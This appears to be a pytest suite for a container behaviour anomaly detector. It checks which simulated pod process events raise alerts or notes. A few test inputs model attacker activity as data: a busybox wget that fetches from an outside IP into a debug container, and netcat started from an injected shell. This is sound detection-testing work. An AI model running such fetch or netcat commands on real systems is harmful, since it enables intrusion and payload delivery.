"""What real deployments do: none of it may wake anybody."""

import pytest
from detection.cluster import CART, Cluster, alerts, analyse
from peerwatch.columns import ProcessFlag
from peerwatch.subjects import ContainerKind

from collector.analysis import Analysis
from collector.records import IncidentKind, Severity


def test_the_first_start_of_a_deployment_says_nothing(cluster: Cluster) -> None:
    pods = cluster.pods(5)
    for number, pod in enumerate(pods):
        cluster.exec(number, pod, "/usr/bin/dash", parent="")
        cluster.exec(number + 0.1, pod, "/usr/bin/chmod", parent="/usr/bin/dash")
        cluster.exec(number + 0.2, pod, "/usr/bin/curl", parent="/usr/bin/dash")
    cluster.normal(pods, 5, 120)

    assert analyse(cluster, until=300) == []


def test_a_rollout_that_changes_behaviour_is_one_note(cluster: Cluster) -> None:
    old, new = cluster.pods(5), cluster.pods(5, revision="r2", at=120)
    cluster.normal(old, 0, 150)
    cluster.normal(new, 120, 300)
    for number, pod in enumerate(new):
        for second in range(125, 300, 20):
            cluster.exec(second + number / 10, pod, "/usr/bin/pg_dump")

    (note,) = analyse(cluster, until=400)

    assert note.severity == Severity.INFO
    assert note.kind == IncidentKind.ROLLOUT_CHANGE
    assert note.behaviours[0].key == "/usr/bin/pg_dump <- /usr/bin/server"
    assert "revision r2 changed" in note.reason


def test_a_slow_rollout_with_a_new_helper_is_no_alert(cluster: Cluster) -> None:
    old = cluster.pods(5)
    cluster.normal(old, 0, 300)
    for number in range(5):
        at = 120 + 25 * number
        (pod,) = cluster.pods(1, revision="r2", at=at, first=number)
        cluster.normal([pod], at, 400)
        for second in range(at + 5, 400, 20):
            cluster.exec(second + 0.4, pod, "/usr/bin/pg_dump")

    assert alerts(analyse(cluster, until=500)) == []


def test_what_a_new_revision_does_when_it_is_asked_to_is_no_alert(cluster: Cluster) -> None:
    old, new = cluster.pods(4), cluster.pods(4, revision="r2", at=600)
    cluster.normal(old, 0, 600)
    cluster.normal(new, 600, 1200)
    for pod, at in zip(new, (25, 52, 79, 95), strict=True):  # requests come when they come
        cluster.exec(600.4 + at, pod, "/usr/bin/stat")

    assert alerts(analyse(cluster, until=1300)) == []


def test_what_a_new_workload_does_when_it_is_asked_to_is_no_alert(cluster: Cluster) -> None:
    pods = cluster.pods(3)
    cluster.normal(pods, 0, 600)
    for number, pod in enumerate(pods):
        for beat in range(300):
            words = f"bc <<< {chr(97 + beat % 3)}"
            cluster.exec(2 * beat + 0.3 + number / 10, pod, "/usr/bin/dash", parent="/usr/bin/server", args=("sh", "-c", words))
        asked = ("sh", "-c", "7z a -bd /tmp/t.7z /srv/x; rm -f /tmp/t.7z")
        cluster.exec(40.5 + 14 * number, pod, "/usr/bin/dash", parent="/usr/bin/server", args=asked)

    assert alerts(analyse(cluster, until=700)) == []


def test_what_one_replica_of_a_new_revision_goes_on_doing_alone_is_told(cluster: Cluster) -> None:
    old, new = cluster.pods(4), cluster.pods(4, revision="r2", at=600)
    cluster.normal(old, 0, 600)
    cluster.normal(new, 600, 1200)
    cluster.exec(625.4, new[0], "/usr/bin/stat")

    (alert,) = alerts(analyse(cluster, until=1300))

    assert [each.pod for each in alert.replicas] == [new[0].name]
    assert alert.time - alert.first_event < 120 * 10**9


def test_a_job_that_runs_everywhere_within_seconds_is_no_alert(cluster: Cluster) -> None:
    pods = cluster.pods(5)
    cluster.normal(pods, 0, 1000)
    for number, pod in enumerate(pods):
        cluster.exec(900 + number * 2, pod, "/usr/sbin/logrotate", parent="/usr/sbin/cron")
        cluster.exec(900.1 + number * 2, pod, "/usr/bin/gzip", parent="/usr/sbin/logrotate")

    assert alerts(analyse(cluster, until=1100)) == []


def test_a_restarted_replica_that_starts_as_others_did_is_no_alert(cluster: Cluster) -> None:
    pods = cluster.pods(5)
    for pod in pods:
        cluster.exec(0.1, pod, "/usr/bin/dash", parent="")
        cluster.exec(0.2, pod, "/usr/bin/chmod", parent="/usr/bin/dash")
    cluster.normal(pods, 1, 400)
    (fresh,) = cluster.pods(1, at=200, first=5)
    cluster.exec(200.1, fresh, "/usr/bin/dash", parent="")
    cluster.exec(200.2, fresh, "/usr/bin/chmod", parent="/usr/bin/dash")
    cluster.normal([fresh], 201, 400)

    assert analyse(cluster, until=500) == []


def test_a_person_who_looks_around_with_kubectl_exec_is_a_note(cluster: Cluster) -> None:
    pods = cluster.pods(5)
    cluster.normal(pods, 0, 200)
    flags = (ProcessFlag.INJECTED, ProcessFlag.TTY)
    shell = cluster.exec(100.5, pods[0], "/usr/bin/bash", parent="", flags=flags)
    cluster.exec(105.5, pods[0], "/usr/bin/ps", parent="/usr/bin/bash", flags=flags, parent_pid=shell)

    (note,) = analyse(cluster, until=300)

    assert note.severity == Severity.INFO
    assert "entered from outside the container" in note.reason


def test_a_person_who_brings_tools_is_an_alert(cluster: Cluster) -> None:
    pods = cluster.pods(5)
    cluster.normal(pods, 0, 200)
    flags = (ProcessFlag.INJECTED, ProcessFlag.TTY)
    shell = cluster.exec(100.5, pods[0], "/usr/bin/bash", parent="", flags=flags)
    cluster.exec(105.5, pods[0], "/usr/bin/nc", parent="/usr/bin/bash", flags=flags, parent_pid=shell)

    (alert,) = alerts(analyse(cluster, until=300))

    assert alert.behaviours[0].key == "/usr/bin/nc <- /usr/bin/bash"


def test_what_all_replicas_of_a_first_start_begin_later_is_one_note(cluster: Cluster) -> None:
    pods = cluster.pods(4)
    cluster.normal(pods, 0, 1500)
    for number, pod in enumerate(pods):
        cluster.exec(900.5 + 2 * number, pod, "/usr/bin/convert-video")

    (note,) = analyse(cluster, until=1500)

    assert note.severity is Severity.INFO
    assert len(note.replicas) == 4


@pytest.mark.parametrize("at", [101.0, 130.0, 600.0])
def test_what_is_fetched_into_a_debug_container_is_told_from_its_first_second_on(cluster: Cluster, at: float) -> None:
    cluster.normal(cluster.pods(4), 0, 700)
    (debug,) = cluster.pods(1, kind=ContainerKind.EPHEMERAL, container="debugger-x")
    shell = cluster.exec(100, debug, "/bin/busybox", parent="", args=("sh",))
    url = ("wget", "-qO-", "http://203.0.113.9:8000/x")
    cluster.exec(at, debug, "/bin/busybox", parent="/bin/busybox", args=url, parent_pid=shell)
    cluster.connect(at + 0.1, debug, "/bin/busybox", ("203.0.113.9", 8000))

    (alert,) = alerts(analyse(cluster, until=700))

    assert "in the debug container debugger-x" in alert.reason
    assert alert.time - alert.first_event < 2_000_000_000


@pytest.mark.parametrize("tool", ["ps", "netstat", "nslookup", "nc", "wget"])
def test_what_people_bring_a_debug_container_for_is_a_note(cluster: Cluster, tool: str) -> None:
    cluster.normal(cluster.pods(4), 0, 700)
    (debug,) = cluster.pods(1, kind=ContainerKind.EPHEMERAL, container="debugger-x")
    shell = cluster.exec(100, debug, "/bin/busybox", parent="", args=("sh",))
    cluster.exec(130, debug, "/bin/busybox", parent="/bin/busybox", args=(tool, "10.0.0.7", "8080"), parent_pid=shell)
    cluster.connect(130.1, debug, "/bin/busybox", ("10.0.0.7", 8080))

    told = analyse(cluster, until=700)

    assert {each.severity for each in told} == {Severity.INFO}


def test_an_ephemeral_debug_container_is_a_note_and_no_part_of_the_application(cluster: Cluster) -> None:
    pods = cluster.pods(5)
    cluster.normal(pods, 0, 200)
    (debug,) = cluster.pods(1, kind=ContainerKind.EPHEMERAL, container="debugger-x")
    cluster.exec(100, debug, "/bin/busybox", parent="", args=("sh",))
    cluster.exec(130, debug, "/bin/busybox", parent="/bin/busybox", args=("ps",))
    analysis = Analysis()

    found = analyse(cluster, until=300, analysis=analysis)

    assert {each.severity for each in found} == {Severity.INFO}
    assert not [each for each in analysis.baseline(CART, "app") if "busybox" in each.key]


def test_an_init_container_has_its_own_baseline(cluster: Cluster) -> None:
    pods = cluster.pods(5)
    for pod in cluster.pods(5, kind=ContainerKind.INIT, container="migrate"):
        cluster.exec(0.1, pod, "/usr/bin/chown", parent="")
    cluster.normal(pods, 1, 320)
    cluster.exec(260.5, pods[0], "/usr/bin/chown")

    (alert,) = alerts(analyse(cluster, until=400))

    assert alert.replicas[0].container == "app"
    assert (alert.compared, alert.sharing) == (4, 0)


def test_a_workload_that_always_runs_something_new_never_settles(cluster: Cluster) -> None:
    pods = cluster.pods(5)
    cluster.normal(pods, 0, 600)
    for number in range(100):  # a build runner: another tool every few seconds
        cluster.exec(2 + number * 5.5, pods[number * 7 % 5], f"/opt/build/tool{chr(97 + number % 26)}{chr(97 + number // 26)}")

    assert len(alerts(analyse(cluster, until=700))) <= 1


def test_a_role_that_moves_to_another_replica_is_no_alert(cluster: Cluster) -> None:
    pods = cluster.pods(5)
    cluster.normal(pods, 0, 900)
    for second in range(1, 400, 5):
        cluster.exec(second + 0.2, pods[0], "/usr/bin/leader-task")
    first = len(alerts(analyse(cluster)))
    for second in range(400, 900, 5):
        cluster.exec(second + 0.2, pods[3], "/usr/bin/leader-task")

    assert len(alerts(analyse(cluster, until=1000))) == first


def test_the_tools_of_a_new_job_wait_with_it_for_the_peers(cluster: Cluster) -> None:
    pods = cluster.pods(5)
    cluster.normal(pods, 0, 900)
    for number, pod in enumerate(pods):
        at, words = 500.5 + 1.5 * number, ("curl", "-so", "/srv/x", "http://store.shop/x")
        job = cluster.exec(at, pod, "/usr/local/bin/job", args=("job",))
        cluster.exec(at + 0.1, pod, "/usr/bin/curl", parent="/usr/local/bin/job", args=words, parent_pid=job)

    assert alerts(analyse(cluster, until=900)) == []
